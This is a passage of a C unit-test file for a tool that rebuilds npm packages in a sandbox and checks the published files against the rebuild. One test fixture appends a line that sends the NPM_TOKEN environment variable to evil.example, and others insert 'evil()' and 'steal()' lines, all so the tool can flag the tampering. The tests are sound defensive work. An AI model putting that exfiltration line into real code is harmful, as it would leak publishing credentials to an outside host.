        printf("# error: %s\n", sg_error_message(f->ctx));
    return error;
}

static void assert_log_kept(fx *f)
{
    const char *log = sg_report_get(f->report, SG_REPORT_REBUILD_LOG);
    struct stat st;
    assert_non_null(log);
    assert_int_equal(strncmp(log, f->cache, strlen(f->cache)), 0);
    assert_int_equal(stat(log, &st), 0);
    assert_true(st.st_size > 0);
}

static void test_rebuild__clean_build_reproduces_and_passes(void **state)
{
    fx *f = *state;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
    assert_int_equal(sg_report_count(f->report, SG_COUNT_FILES_REBUILT), 1);
    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "reproduced");
    assert_null(sg_report_get(f->report, SG_REPORT_REBUILD_SECOND)); /* exact: one build */
    assert_null(finding_at(f->report, "file-unverified", "dist/index.js"));
    assert_true(sg_report_list_count(f->report, SG_LIST_REBUILD) >= 4);
    assert_log_kept(f);
}

static void test_rebuild__extra_line_in_dist_fails_naming_the_file(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_clean,
                            BUILT_JS "require('https').get('https://evil.example/?' + "
                                     "process.env.NPM_TOKEN);\n"),
                     0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_FAIL);
    x = finding_at(f->report, "file-modified", "dist/index.js");
    assert_non_null(x);
    assert_int_equal(x->severity, SG_SEV_HIGH);
    assert_non_null(strstr(x->detail, "appended"));
    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "not-reproduced");
}

static void test_rebuild__iso_build_time_is_volatile_never_silent(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    assert_int_equal(
        verify(f, PJ_BUILD, build_iso_time, "// built at 2024-01-02T03:04:05.678Z\n" SRC_JS), 0);
    x = finding_at(f->report, "file-modified", "dist/index.js");
    assert_non_null(x);
    assert_int_equal(x->severity, SG_SEV_LOW);
    assert_true(has_normalization(f->report, "volatile-tokens"));
}

/* A build time written as a date string is no volatile token: the file is not reproduced and
 * never passes. The second, varied build (a later time) writes that line otherwise too, so the
 * only differing line is one where honest builds vary: unverified, inconclusive (it was a high
 * file-modified before second builds also judged rewritten lines). */
static void test_rebuild__date_string_build_time_is_not_reproduced(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_date_string,
                            "// built on Mon Jan 01 2024 00:00:00 GMT+0000 (Coordinated Universal "
                            "Time)\n" SRC_JS),
                     0);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "honest builds vary there"));
    assert_null(finding_at(f->report, "file-modified", "dist/index.js"));
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
}

/* The same build with a payload line added where both builds agree: a modification. */
static void test_rebuild__a_changed_line_where_builds_agree_fails(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    char art[1024];
    NEED_SANDBOX(f);
    snprintf(art, sizeof(art), "%s",
             "// built on Mon Jan 01 2024 00:00:00 GMT+0000 (Coordinated Universal Time)\n" SRC_JS);
    /* rewrite the first source line (the builds copy it unchanged) */
    {
        char *nl = strchr(art, '\n'), *second = nl ? strchr(nl + 1, '\n') : NULL;
        assert_non_null(second);
        memmove(nl + 1 + 8, second, strlen(second) + 1);
        memcpy(nl + 1, "evil();;", 8);
    }
    assert_int_equal(verify(f, PJ_BUILD, build_date_string, art), 0);
    x = finding_at(f->report, "file-modified", "dist/index.js");
    assert_non_null(x);
    assert_int_equal(x->severity, SG_SEV_HIGH);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_FAIL);
}

static void test_rebuild__build_error_leaves_files_unverified_with_the_reason(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_fails, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "the rebuild failed: build error (exit status 3)"));
    assert_non_null(strstr(x->detail, "the compiler exploded"));
    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "failed");
    assert_log_kept(f);
}

/* The reason quotes the tool's error line without its terminal colors. */
static void test_rebuild__build_error_reason_has_no_terminal_colors(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_fails_colored, BUILT_JS), 0);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "src/a.ts:14 - error TS2315: Type is not generic."));
    assert_null(strchr(x->detail, '\x1b'));
    assert_null(strstr(x->detail, "[96m"));
}

/* A failure with a known cause says it and its fix in one line, not a line of the tool's
 * source (issue 16). */
static void test_rebuild__known_failure_says_the_fix(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_corepack_unsigned, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "corepack could not check npm against the registry's "
                                      "signatures"));
    assert_non_null(strstr(x->detail, "set COREPACK_INTEGRITY_KEYS= to accept it"));
    assert_null(strstr(x->detail, "Array.isArray"));
}

static void test_rebuild__time_limit_leaves_files_unverified(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    f->ro.timeout_seconds = 3;
    assert_int_equal(verify(f, PJ_BUILD, build_hangs, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "time limit of 3 s"));
}

static void test_rebuild__prepack_script_builds_through_the_pack_command(void **state)
{
    fx *f = *state;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_PREPACK, build_clean, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
    assert_int_equal(sg_report_count(f->report, SG_COUNT_FILES_REBUILT), 1);
}

static void test_rebuild__packed_fifo_is_refused_not_waited_on(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_POSTPACK_FIFO, build_then_fifo, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "the packed tarball is unreadable"));
}

/* Credentials in the registry URL never reach a step: its environment (npm's, corepack's and
 * yarn's registry settings) gets the URL without userinfo (issue 12). */
static void test_rebuild__registry_credentials_stay_outside(void **state)
{
    fx *f = *state;
    const char *log;
    char *text;
    NEED_SANDBOX(f);
    f->ro.registry = "http://builder:s3cret-token@127.0.0.1:9/";
    assert_int_equal(verify(f, PJ_BUILD, build_prints_env, BUILT_JS), 0);
    log = sg_report_get(f->report, SG_REPORT_REBUILD_LOG);
    assert_non_null(log);
    text = sgt_read_file(log, NULL);
    assert_non_null(strstr(text, "npm_config_registry=http://127.0.0.1:9/"));
    assert_non_null(strstr(text, "COREPACK_NPM_REGISTRY=http://127.0.0.1:9"));
    assert_null(strstr(text, "s3cret-token"));
    free(text);
    f->ro.registry = NULL;
}

static void test_rebuild__without_a_sandbox_always_refuses_and_auto_skips(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    NEED_NODE(f);
    f->ro.bwrap = "/nonexistent/bwrap";
    f->ro.mode = SG_REBUILD_ALWAYS;
    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), SG_EUNSUPPORTED);
    assert_non_null(strstr(sg_error_message(f->ctx), "--unsafe-no-sandbox"));
    sg_error_clear(f->ctx);
    f->ro.mode = SG_REBUILD_AUTO;
    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "the sandbox cannot run here"));
    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "skipped");
}

static void test_rebuild__unsafe_mode_builds_without_bubblewrap(void **state)
{
    fx *f = *state;
    size_t i;
    int named = 0;
    NEED_NODE(f);
    f->ro.bwrap = "/nonexistent/bwrap";
    f->ro.allow_unsafe_no_sandbox = 1;
    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
    for (i = 0; i < sg_report_list_count(f->report, SG_LIST_REBUILD); i++)
        named |= strstr(sg_report_list_get(f->report, SG_LIST_REBUILD, i), "NONE") != NULL;
    assert_true(named);
}

static void test_rebuild__never_leaves_generated_files_unverified(void **state)
{
    fx *f = *state;
    const sg_finding *x;
    f->ro.mode = SG_REBUILD_NEVER;
    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
    x = finding_at(f->report, "file-unverified", "dist/index.js");
    assert_non_null(x);
    assert_non_null(strstr(x->detail, "not rebuilt"));
    assert_null(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS));
    assert_int_equal(sg_report_list_count(f->report, SG_LIST_REBUILD), 0);
}

static void test_rebuild__auto_does_not_rebuild_when_git_explains_everything(void **state)
{
    fx *f = *state;
    char *dir = sgt_tmpdir(), repo[4200], tgz[4200];
    const sgt_file files[] = {{"package.json", PJ_BUILD, 0, 0},
                              {"dist/index.js", BUILT_JS, 0, 0},
                              {"build.js", build_fails, 0, 0}};
    const sgt_tar_entry entries[] = {{"package/package.json", PJ_BUILD, 0, 0644, '0', NULL},
                                     {"package/dist/index.js", BUILT_JS, 0, 0644, '0', NULL}};
    sg_verify_opts o = SG_VERIFY_OPTS_INIT;

    snprintf(repo, sizeof(repo), "%s/repo", dir);
    snprintf(tgz, sizeof(tgz), "%s/a.tgz", dir);
    sgt_git_init(repo, 0);
    sgt_git_commit(NULL, repo, NULL, files, 3, "committed dist", 0);
    sgt_tar_write(tgz, entries, 2);
    o.tarball_path = tgz;
    o.source = repo;
    o.rebuild = &f->ro;
    assert_int_equal(sg_verify_local(&f->report, f->ctx, &o), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
    assert_null(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS));
}

static void test_rebuild__the_copy_has_a_git_head_at_the_commit(void **state)
{
    static const char build_git[] =
        BUILD_HEAD "const git = (a) => require('child_process').execSync('git ' + a).toString()"
                   ".trim();\n"
                   "fs.writeFileSync('dist/index.js', '// ' + git('rev-parse HEAD') + ' ' + "
                   "git('describe --tags') + ' ' + git('ls-files src') + '\\n' + src);\n";
    fx *f = *state;
    char *dir = sgt_tmpdir(), repo[4200], tgz[4200], commit[41], dist[512];
    const sgt_file files[] = {{"package.json", PJ_BUILD, 0, 0},
                              {"build.js", build_git, 0, 0},
                              {"src/index.js", SRC_JS, 0, 0},
                              {".gitignore", "dist\n", 0, 0}};
    sgt_tar_entry entries[] = {{"package/package.json", PJ_BUILD, 0, 0644, '0', NULL},
                               {"package/dist/index.js", dist, 0, 0644, '0', NULL}};
    sg_verify_opts o = SG_VERIFY_OPTS_INIT;

    NEED_SANDBOX(f);
    if (!sgt_have_program("git"))
        skip();
    snprintf(repo, sizeof(repo), "%s/repo", dir);
    snprintf(tgz, sizeof(tgz), "%s/a.tgz", dir);
    sgt_git_init(repo, 0);
    sgt_git_commit(commit, repo, NULL, files, 4, "stamped", 0);
    sgt_git_tag(repo, "v1.0.0", commit, 1);
    snprintf(dist, sizeof(dist), "// %s v1.0.0 src/index.js\n%s", commit, SRC_JS);
    sgt_tar_write(tgz, entries, 2);
    o.tarball_path = tgz;
    o.source = repo;
    o.ref = "v1.0.0";
    o.rebuild = &f->ro;
    assert_int_equal(sg_verify_local(&f->report, f->ctx, &o), 0);
    print_report(f->report);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
    assert_int_equal(sg_report_count(f->report, SG_COUNT_FILES_REBUILT), 1);
}

/* The prepack step strips comments the way clean-publish does, but leaves blank lines where
 * they were: the rebuilt copy differs from the artifact, whose copy the source explains (the
 * comments and blank lines removed). It passes with the rebuild and without (issue 15). */
static void test_rebuild__comment_stripped_release_passes_with_and_without_rebuild(void **state)
{
    static const char pj[] =
        "{\n  \"name\": \"fixture-strip\",\n  \"version\": \"1.0.0\",\n  \"main\": "
        "\"lib/add.js\",\n  \"files\": [\"lib\"],\n  \"scripts\": {\"prepack\": \"node "
        "strip.js\"}\n}\n";
    static const char strip_js[] =
        "const fs = require('fs');\n"
        "const p = 'lib/add.js';\n"
        "fs.writeFileSync(p, fs.readFileSync(p, 'utf8').split('\\n').map((l) => "
        "/^\\s*(\\/\\/|\\/\\*)/.test(l) ? '' : l).join('\\n'));\n";
    fx *f = *state;
    char *dir = sgt_tmpdir(), repo[4200], tgz[4200];
    const sgt_file files[] = {{"package.json", pj, 0, 0},
                              {"strip.js", strip_js, 0, 0},
                              {"lib/add.js", COMMENTED_JS, 0, 0}};
    const sgt_tar_entry entries[] = {{"package/package.json", pj, 0, 0644, '0', NULL},
                                     {"package/lib/add.js", STRIPPED_JS, 0, 0644, '0', NULL}};
    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
    const sg_finding *x;
    int pass;

    NEED_SANDBOX(f);
    snprintf(repo, sizeof(repo), "%s/repo", dir);
    snprintf(tgz, sizeof(tgz), "%s/a.tgz", dir);
    sgt_git_init(repo, 0);
    sgt_git_commit(NULL, repo, NULL, files, 3, "clean-publish", 0);
    sgt_tar_write(tgz, entries, 2);
    o.tarball_path = tgz;
    o.source = repo;
    o.rebuild = &f->ro;
    for (pass = 0; pass < 3; pass++) {
        f->ro.mode = pass == 0 ? SG_REBUILD_NEVER : pass == 1 ? SG_REBUILD_AUTO : SG_REBUILD_ALWAYS;
        sg_report_free(f->report);
        f->report = NULL;
        assert_int_equal(sg_verify_local(&f->report, f->ctx, &o), 0);
        print_report(f->report);
        if (pass)
            assert_non_null(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS));
        assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
        x = finding_at(f->report, "file-modified", "lib/add.js");
        assert_non_null(x);
        assert_int_equal(x->severity, SG_SEV_LOW);
        assert_true(has_normalization(f->report, "js-comments-stripped"));
    }
}

/* A monorepo package whose tarball has the workspace root's LICENSE and one built file: the
 * rebuild reproduces the built file and the summary counts the LICENSE as the source's, not as
 * a gap ("1 of 2 files ... reproduced; 1 explained by the source"). */
static void test_rebuild__root_license_counts_as_explained_by_the_source(void **state)
{
    static const char pj[] =
        "{\"name\":\"fixture-ws\",\"version\":\"1.0.0\",\"main\":\"dist/x.js\","
        "\"files\":[\"dist\"],\"scripts\":{\"prepack\":\"node build.js\"}}\n";
    static const char build_js[] =
        "require('fs').mkdirSync('dist', {recursive: true});\n"
        "require('fs').writeFileSync('dist/x.js', 'exports.x = 1;\\n');\n";
    static const char license[] = "MIT License\n\nCopyright (c) the fixture\n";
    fx *f = *state;
    char *dir = sgt_tmpdir(), repo[4200], tgz[4200];
    const sgt_file files[] = {{"LICENSE", license, 0, 0},
                              {"package.json", "{\"private\":true}\n", 0, 0},
                              {"packages/ws/package.json", pj, 0, 0},
                              {"packages/ws/build.js", build_js, 0, 0}};
    const sgt_tar_entry entries[] = {{"package/package.json", pj, 0, 0644, '0', NULL},
                                     {"package/LICENSE", license, 0, 0644, '0', NULL},
                                     {"package/dist/x.js", "exports.x = 1;\n", 0, 0644, '0', NULL}};
    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
    const char *detail;

    NEED_SANDBOX(f);
    snprintf(repo, sizeof(repo), "%s/repo", dir);
    snprintf(tgz, sizeof(tgz), "%s/a.tgz", dir);
    sgt_git_init(repo, 0);
    sgt_git_commit(NULL, repo, NULL, files, 4, "workspace", 0);
    sgt_tar_write(tgz, entries, 3);
    o.tarball_path = tgz;
    o.source = repo;
    o.subdir = "packages/ws";
    o.rebuild = &f->ro;
    f->ro.mode = SG_REBUILD_ALWAYS;
    sg_report_free(f->report);
    f->report = NULL;
    assert_int_equal(sg_verify_local(&f->report, f->ctx, &o), 0);
    print_report(f->report);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
    assert_true(has_normalization(f->report, "workspace-root-license"));
    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "reproduced");
    detail = sg_report_get(f->report, SG_REPORT_REBUILD_DETAIL);
    assert_non_null(detail);
    assert_non_null(strstr(detail, "1 of 2 files that git lacks or has with other bytes "
                                   "reproduced; 1 explained by the source"));
}

/* The build writes constants (a pin, a 16-digit number): an artifact with one of them changed,
 * or a line appended, fails after the rebuild. The changed tokens made a second build run
 * (they are the same in both builds); the appended line needed none (issue 15). */
static void test_rebuild__changed_constant_or_appended_line_fails(void **state)
{
#define PIN_LINES "const PIN = '" HEX_A "';\nconst N = 1234567890123456;\n"
    static const char build_pin[] = BUILD_HEAD "fs.writeFileSync('dist/index.js', \""
                                               "const PIN = '" HEX_A "';\\n"
                                               "const N = 1234567890123456;\\n\" + src);\n";
    static const char *const dists[] = {
        "const PIN = '" HEX_B "';\nconst N = 1234567890123456;\n" SRC_JS,
        "const PIN = '" HEX_A "';\nconst N = 1234567890123457;\n" SRC_JS,
        PIN_LINES SRC_JS "steal();\n",
    };
    fx *f = *state;
    size_t i;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_pin, PIN_LINES SRC_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS); /* the build is honest */
    assert_null(sg_report_get(f->report, SG_REPORT_REBUILD_SECOND));
    for (i = 0; i < SG_ARRAY_SIZE(dists); i++) {
        const sg_finding *x;
        assert_int_equal(verify(f, PJ_BUILD, build_pin, dists[i]), 0);
        assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_FAIL);
        x = finding_at(f->report, "file-modified", "dist/index.js");
        assert_non_null(x);
        assert_int_equal(x->severity, SG_SEV_HIGH);
        if (i < 2) {
            assert_non_null(strstr(x->detail, "where both builds have"));
            assert_non_null(sg_report_get(f->report, SG_REPORT_REBUILD_SECOND));
        } else {
            assert_non_null(strstr(x->detail, "appended"));
            assert_null(sg_report_get(f->report, SG_REPORT_REBUILD_SECOND));
        }
    }
#undef PIN_LINES
}

/* A build that writes the time of the build passes: a second build writes another time there,
 * and the report says the second build ran and which tokens it established. */
static void test_rebuild__build_time_is_established_by_a_second_build(void **state)
{
    static const char build_times[] = BUILD_HEAD
        "const d = new Date();\n"
        "console.log('varied: TZ=' + process.env.TZ + ' LC_ALL=' + process.env.LC_ALL "
        "+ ' umask=' + process.umask().toString(8) + ' cwd=' + process.cwd() + ' ;');\n"
        "fs.writeFileSync('dist/index.js', '// ' + d.toISOString() + ' ' + d.getTime() + "
        "'\\n' + src);\n";
    fx *f = *state;
    sg_buf json = SG_BUF_INIT;
    NEED_SANDBOX(f);
    assert_int_equal(
        verify(f, PJ_BUILD, build_times, "// 2024-01-02T03:04:05.678Z 1704164645678\n" SRC_JS), 0);
    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
    assert_int_equal(sg_report_count(f->report, SG_COUNT_FILES_REBUILT), 1);
    assert_non_null(strstr(sg_report_get(f->report, SG_REPORT_REBUILD_SECOND), "built"));
    assert_int_equal(sg_report_list_count(f->report, SG_LIST_REBUILD_TOKENS), 1);
    assert_non_null(strstr(sg_report_list_get(f->report, SG_LIST_REBUILD_TOKENS, 0),
                           "'1704164645678' at line 1 (differs between the two builds)"));
    assert_int_equal(sg_report_write_json(&json, f->ctx, f->report), 0);
    assert_non_null(strstr(json.ptr, "\"second_build\": \"ran ("));
    assert_non_null(strstr(json.ptr, "\"volatile_tokens\": [\"dist/index.js: "));
    sg_buf_dispose(&json);
    { /* what the two builds saw, from their logs: the second one varied */
        const char *log = sg_report_get(f->report, SG_REPORT_REBUILD_LOG);
        char varied[4200];
        char *first, *second;
        assert_non_null(log);
        snprintf(varied, sizeof(varied), "%.*s-varied.log", (int)(strlen(log) - 4), log);
        first = sgt_read_file(log, NULL);
        second = sgt_read_file(varied, NULL);
        assert_non_null(first);
        assert_non_null(second);
        assert_non_null(strstr(first, "varied: TZ=UTC LC_ALL=undefined umask=22 cwd="));
        assert_non_null(strstr(second, "varied: TZ=Etc/GMT-14 LC_ALL=fr_CH.UTF-8 umask=2 cwd="));
        /* in a folder named as git clone names the repository ("repo"), both times */
        assert_non_null(strstr(second, "/varied-build-path/src/repo ;"));
        assert_non_null(strstr(first, "/src/repo ;"));
        assert_null(strstr(first, "varied-build-path"));
        free(first);
        free(second);
    }
}

/* A build that writes the commit id and the version from the release pipeline's environment
 * writes placeholders here, the same in both builds: it passes when the artifact has the
 * release's commit and version, and fails with any other value. */
static void test_rebuild__commit_and_version_tokens_pass_as_release_facts(void **state)
{
    static const char pj[] =
        "{\n  \"name\": \"fixture-stamp\",\n  \"version\": \"1.0.20261128\",\n  \"main\": "
        "\"dist/index.js\",\n  \"files\": [\"dist\"],\n  \"scripts\": {\"build\": \"node "
        "build.js\"}\n}\n";
    static const char build_stamp[] =
        BUILD_HEAD "fs.writeFileSync('dist/index.js', '// ' + (process.env.GIT_COMMIT || "
                   "'0'.repeat(40)) + ' v1.0.' + (process.env.BUILD_NUMBER || '00000000') + "
                   "'\\n' + src);\n";
    fx *f = *state;
    char *dir = sgt_tmpdir(), repo[4200], tgz[4200], commit[41], dist[512];
    const sgt_file files[] = {{"package.json", pj, 0, 0},
                              {"build.js", build_stamp, 0, 0},
                              {"src/index.js", SRC_JS, 0, 0},
                              {".gitignore", "dist\n", 0, 0}};
    sgt_tar_entry entries[] = {{"package/package.json", pj, 0, 0644, '0', NULL},
                               {"package/dist/index.js", dist, 0, 0644, '0', NULL}};
    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
    int round;

    NEED_SANDBOX(f);
    snprintf(repo, sizeof(repo), "%s/repo", dir);
    snprintf(tgz, sizeof(tgz), "%s/a.tgz", dir);
    sgt_git_init(repo, 0);
    sgt_git_commit(commit, repo, NULL, files, 4, "stamped", 0);
    o.tarball_path = tgz;
    o.source = repo;
    o.rebuild = &f->ro;
    for (round = 0; round < 3; round++) {
        /* the release's values; another commit-like hash; another build number */
        snprintf(dist, sizeof(dist), "// %s v1.0.%s\n%s",
                 round == 1 ? "1111111111111111111111111111111111111111" : commit,
                 round == 2 ? "20261129" : "20261128", SRC_JS);
        sgt_tar_write(tgz, entries, 2);
        sg_report_free(f->report);
        f->report = NULL;
        assert_int_equal(sg_verify_local(&f->report, f->ctx, &o), 0);
        print_report(f->report);
        assert_non_null(sg_report_get(f->report, SG_REPORT_REBUILD_SECOND));
        if (round == 0) {
            assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
            assert_non_null(strstr(sg_report_list_get(f->report, SG_LIST_REBUILD_TOKENS, 0),
                                   "(the release's commit)"));
            assert_non_null(strstr(sg_report_list_get(f->report, SG_LIST_REBUILD_TOKENS, 0),
                                   "(the release's version)"));
        } else {
            assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_FAIL);
        }
    }
}

static void test_rebuild__report_json_carries_the_rebuild(void **state)
{
    fx *f = *state;
    sg_buf json = SG_BUF_INIT;
    NEED_SANDBOX(f);
    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
    assert_int_equal(sg_report_write_json(&json, f->ctx, f->report), 0);
    assert_non_null(strstr(json.ptr, "\"rebuild\": {\"status\": \"reproduced\""));
    assert_non_null(strstr(json.ptr, "\"steps\": [\"package manager: npm"));
    assert_non_null(strstr(json.ptr, "\"files_rebuilt\": 1"));
    sg_buf_dispose(&json);
}

int main(void)
{
#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
    const struct CMUnitTest tests[] = {
        T(test_rebuild__compare_same_bytes_counts_as_rebuilt),
        T(test_rebuild__compare_appended_line_fails_naming_the_file),
        T(test_rebuild__compare_timestamp_is_volatile_and_low),
        T(test_rebuild__compare_volatile_tokens_are_narrow),
        T(test_rebuild__compare_swapped_constants_fail_after_two_builds),
        T(test_rebuild__compare_tokens_without_a_second_build_are_unverified),
        T(test_rebuild__compare_release_facts_establish_tokens),
        T(test_rebuild__compare_varying_tokens_must_line_up),
        T(test_rebuild__establish_tokens_random_inputs),
        T(test_rebuild__compare_reports_where_lines_differ),
        T(test_rebuild__compare_file_the_rebuild_lacks_is_not_explained),
        T(test_rebuild__compare_source_file_rewritten_by_the_build),
        T(test_rebuild__compare_comment_stripped_file_stays_explained),
        T(test_rebuild__property_a_rebuild_never_demotes_a_pass),
        T(test_rebuild__materialize_writes_files_links_and_modes),
        T(test_rebuild__clean_build_reproduces_and_passes),
        T(test_rebuild__extra_line_in_dist_fails_naming_the_file),
        T(test_rebuild__iso_build_time_is_volatile_never_silent),
        T(test_rebuild__date_string_build_time_is_not_reproduced),
        T(test_rebuild__a_changed_line_where_builds_agree_fails),
        T(test_rebuild__build_error_leaves_files_unverified_with_the_reason),
        T(test_rebuild__build_error_reason_has_no_terminal_colors),
        T(test_rebuild__known_failure_says_the_fix),
        T(test_rebuild__time_limit_leaves_files_unverified),
        T(test_rebuild__prepack_script_builds_through_the_pack_command),
        T(test_rebuild__packed_fifo_is_refused_not_waited_on),
        T(test_rebuild__registry_credentials_stay_outside),
        T(test_rebuild__without_a_sandbox_always_refuses_and_auto_skips),
        T(test_rebuild__unsafe_mode_builds_without_bubblewrap),
        T(test_rebuild__never_leaves_generated_files_unverified),
        T(test_rebuild__auto_does_not_rebuild_when_git_explains_everything),
        T(test_rebuild__the_copy_has_a_git_head_at_the_commit),
        T(test_rebuild__report_json_carries_the_rebuild),
        T(test_rebuild__comment_stripped_release_passes_with_and_without_rebuild),
        T(test_rebuild__root_license_counts_as_explained_by_the_source),
        T(test_rebuild__changed_constant_or_appended_line_fails),
        T(test_rebuild__build_time_is_established_by_a_second_build),
        T(test_rebuild__commit_and_version_tokens_pass_as_release_facts),
    };
#undef T
    return cmocka_run_group_tests(tests, NULL, NULL);
}
